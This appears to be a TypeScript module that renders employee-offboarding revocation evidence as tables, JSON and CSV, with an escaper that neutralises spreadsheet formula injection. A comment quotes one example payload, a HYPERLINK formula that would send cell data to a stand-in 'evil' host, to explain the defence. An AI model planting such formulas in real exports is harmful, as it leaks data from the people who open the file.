/**
 * Evidence as people and tools read it: a table for the terminal, JSON for tools, CSV for the
 * auditor's spreadsheet. CSV is written here (RFC 4180: quote a field holding a comma, quote or
 * line break, double its quotes) rather than with a library: that rule is the whole of it, plus
 * what makes the file safe and readable in a spreadsheet (see {@link csvField}).
 */
import type { ApplicationEvidence, EvidenceReport, LeaverEvidence } from './evidence.ts';

export const EVIDENCE_FORMATS = ['table', 'json', 'csv'] as const;
export type EvidenceFormat = (typeof EVIDENCE_FORMATS)[number];

/** Makes Excel read the file as UTF-8 (names with accents) instead of the system's code page. */
const UTF8_BOM = '\uFEFF';

/**
 * One CSV cell. A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
 * to a spreadsheet: a userName or a vendor's error text such as `=HYPERLINK("http://evil/?"&A1)`
 * would run when the auditor opens the file. Such a cell gets a leading `'`, which spreadsheets
 * read as "text" (OWASP's advice on CSV injection); then RFC 4180 quoting.
 *
 * @example
 * csvField('=1+1'); // "'=1+1"
 * csvField('a, b'); // '"a, b"'
 */
export function csvField(value: unknown): string {
  const raw = value === undefined || value === null ? '' : String(value);
  const text = /^[=+\-@\t\r]/.test(raw) ? `'${raw}` : raw;
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}
const csvRow = (fields: readonly unknown[]) => fields.map(csvField).join(',');

const LEAVER_COLUMNS = ['directory', 'userId', 'userName', 'deactivatedAt', 'deletedAt', 'state', 'complete'];
const APPLICATION_COLUMNS = [
  'connector',
  'application',
  'expected',
  'status',
  'done',
  'closes',
  'at',
  'firstAttemptAt',
  'attempts',
  'vendorReference',
  'why',
];
/** On every row, so that a row says what it is evidence of wherever it is pasted. */
const EXPORT_COLUMNS = ['periodSince', 'periodUntil', 'generatedAt'];

/** The period and generation time of an export (no period for one leaver's evidence). */
interface ExportContext {
  readonly since?: string;
  readonly until?: string;
  readonly generatedAt: string;
}

/** A CSV file: the BOM, the header, a row per leaver and application (one per leaver without any). */
function csvFile(leavers: readonly LeaverEvidence[], context: ExportContext): string {
  const exported = [context.since, context.until, context.generatedAt];
  const noApplication = APPLICATION_COLUMNS.map(() => undefined);
  const rows = leavers.flatMap((leaver) =>
    (leaver.applications.length > 0 ? leaver.applications.map(applicationFields) : [noApplication]).map(
      (fields) => csvRow([...leaverFields(leaver), ...fields, ...exported]),
    ),
  );
  const header = csvRow([...LEAVER_COLUMNS, ...APPLICATION_COLUMNS, ...EXPORT_COLUMNS]);
  return UTF8_BOM + [header, ...rows].join('\n');
}

/** What a revocation closed, for a terminal: the list, that nothing was stated, or `-`. */
function closedText(app: ApplicationEvidence): string {
  if (app.closes.length > 0) return app.closes.join(', ');
  return app.status === 'revoked' || app.status === 'confirmed' ? 'not stated' : '-';
}

function leaverFields(leaver: LeaverEvidence): unknown[] {
  return [
    leaver.directoryId,
    leaver.user.userId,
    leaver.user.userName,
    leaver.deactivatedAt,
    leaver.deletedAt,
    leaver.state,
    leaver.complete,
  ];
}

function applicationFields(app: ApplicationEvidence): unknown[] {
  return [
    app.connectorId,
    app.application,
    app.expected,
    app.status,
    app.done,
    app.closes.join(' '),
    app.at,
    app.firstAttemptAt,
    app.attempts,
    app.vendorReference,
    app.why,
  ];
}

/** Columns padded to their widest cell. */
function table(header: readonly string[], rows: readonly (readonly string[])[]): string[] {
  const widths = header.map((title, column) =>
    Math.max(title.length, ...rows.map((row) => (row[column] ?? '').length)),
  );
  const line = (cells: readonly string[]) =>
    cells
      .map((cell, column) => (column === cells.length - 1 ? cell : cell.padEnd(widths[column] ?? 0)))
      .join('  ');
  return [line(header), ...rows.map(line)];
}

function verdict(leaver: LeaverEvidence): string {
  if (leaver.state === 'returned') return `RETURNED (reactivated ${leaver.reactivatedAt ?? ''})`;
  const expected = leaver.applications.filter((app) => app.expected);
  const done = expected.filter((app) => app.done).length;
  if (expected.length === 0) return 'COMPLETE: no application was expected to act';
  return `${leaver.complete ? 'COMPLETE' : 'INCOMPLETE'}: ${done} of ${expected.length} applications done`;
}

/**
 * One leaver's evidence; a CSV says it was generated at `generatedAt` (default: now).
 *
 * @example
 * console.log(formatLeaverEvidence(evidence, 'table'));
 */
export function formatLeaverEvidence(
  leaver: LeaverEvidence,
  format: EvidenceFormat,
  generatedAt = new Date().toISOString(),
): string {
  if (format === 'json') return JSON.stringify(leaver, null, 2);
  if (format === 'csv') return csvFile([leaver], { generatedAt });
  const name = leaver.user.displayName ? ` (${leaver.user.displayName})` : '';
  return [
    `Leaver ${leaver.user.userName}${name}, user ${leaver.user.userId}, directory ${leaver.directoryId}`,
    `  deactivated by the IdP:  ${leaver.deactivatedAt ?? '-'}`,
    `  deleted by the IdP:      ${leaver.deletedAt ?? '-'}`,
    `  evidence:                ${verdict(leaver)}`,
    '',
    ...table(
      ['application', 'connector', 'status', 'closes', 'at', 'attempts', 'reference', 'why'],
      leaver.applications.map((app) => [
        app.application,
        app.connectorId,
        `${app.status}${app.expected ? '' : ' (not required)'}`,
        closedText(app),
        app.at ?? '-',
        String(app.attempts),
        app.vendorReference ?? '-',
        app.why,
      ]),
    ),
  ].join('\n');
}

/**
 * A period report: every leaver, complete or not, and every application not done with why.
 *
 * @example
 * console.log(formatEvidenceReport(report, 'csv'));
 */
export function formatEvidenceReport(report: EvidenceReport, format: EvidenceFormat): string {
  if (format === 'json') return JSON.stringify(report, null, 2);
  if (format === 'csv') return csvFile(report.leavers, report);
  const lines = [
    `Leavers of directory ${report.directoryId} since ${report.since}${report.until ? ` until ${report.until}` : ''}: ` +
      `${report.leavers.length} (${report.complete} complete, ${report.incomplete} incomplete, ${report.returned} returned)`,
    `Generated ${report.generatedAt}`,
    '',
  ];
  lines.push(
    ...table(
      ['leaver', 'user id', 'left at', 'evidence'],
      report.leavers.map((leaver) => [
        leaver.user.userName,
        leaver.user.userId,
        leaver.leftAt,
        verdict(leaver),
      ]),
    ),
  );
  const open = report.leavers.filter((leaver) => leaver.state === 'left' && !leaver.complete);
  if (open.length > 0) {
    lines.push('', 'Applications not revoked:');
    for (const leaver of open)
      for (const app of leaver.applications.filter((candidate) => candidate.expected && !candidate.done))
        lines.push(
          `  ${leaver.user.userName}  ${app.application} (${app.connectorId}): ${app.status}: ${app.why}`,
        );
  }
  const closed = report.leavers.flatMap((leaver) =>
    leaver.state === 'left'
      ? leaver.applications
          .filter((app) => app.status === 'revoked' || app.status === 'confirmed')
          .map(
            (app) => `  ${leaver.user.userName}  ${app.application} (${app.connectorId}): ${closedText(app)}`,
          )
      : [],
  );
  if (closed.length > 0)
    lines.push('', 'What each revocation closed (login, sessions, apiTokens, seat):', ...closed);
  return lines.join('\n');
}
